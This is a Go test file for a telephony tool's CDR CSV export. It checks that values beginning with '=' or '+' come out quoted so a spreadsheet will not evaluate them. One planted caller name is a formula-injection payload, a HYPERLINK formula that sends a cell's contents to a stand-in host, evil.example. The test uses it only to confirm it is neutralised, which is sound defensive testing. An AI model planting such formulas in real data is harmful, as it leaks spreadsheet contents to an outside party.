package main

import (
	"context"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/jackc/pgx/v5/pgxpool"

	"github.com/tollgate/tollgate/cdr"
	"github.com/tollgate/tollgate/internal/testenv"
)

// TestCDRExportNeutralisesFormulas: `tollgate cdr export` writes a caller
// number "=2+5", a caller name "=HYPERLINK(...)" and an E.164 number as
// text a spreadsheet will not run (a leading '), as the web UI's and the
// API's exports do.
func TestCDRExportNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	dsn := testenv.SharedPostgres(t).NewDatabase(t)
	dir := t.TempDir()
	cfg := filepath.Join(dir, "tollgate.yaml")
	if err := os.WriteFile(cfg, []byte("cdr:\n  dir: "+filepath.Join(dir, "cdr")+"\n  database: "+dsn+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if code, out, stderr := tollgateCmd(t, nil, "migrate", "-c", cfg); code != 0 {
		t.Fatalf("migrate: %s%s", out, stderr)
	}
	ctx := context.Background()
	pool, err := pgxpool.New(ctx, dsn)
	if err != nil {
		t.Fatal(err)
	}
	defer pool.Close()
	setup := time.Now().UTC().Add(-time.Minute).Truncate(time.Millisecond)
	rec := cdr.Record{ID: "0b6f3c3e-2f1d-4c55-9a0e-5f7f1c2d3e4f", SetupTime: setup, DisconnectTime: setup.Add(time.Second),
		CallerNumber: "=2+5", CallerName: `=HYPERLINK("http://evil.example/?"&A1,"click")`, CalledReceived: "+4930123456",
		SIPCode: 486, SIPReason: "Busy Here", DisconnectReason: cdr.ReasonBusy, ReleasedBy: cdr.ReleasedByCallee}
	if err := cdr.NewPGWriter(pool).Write(ctx, []cdr.Record{rec}); err != nil {
		t.Fatal(err)
	}
	code, out, stderr := tollgateCmd(t, nil, "cdr", "export", "-c", cfg, "--from", setup.Add(-time.Hour).Format(time.RFC3339))
	if code != 0 {
		t.Fatalf("cdr export: exit %d: %s", code, stderr)
	}
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("cdr export: %d rows, %v:\n%s", len(rows), err, out)
	}
	cells := map[string]string{}
	for i, c := range rows[0] {
		cells[c] = rows[1][i]
	}
	for col, want := range map[string]string{
		"caller_number": "'=2+5", "caller_name": `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
		"called_received": "'+4930123456", "sip_code": "486",
	} {
		if cells[col] != want {
			t.Errorf("%s = %q, want %q", col, cells[col], want)
		}
	}
}
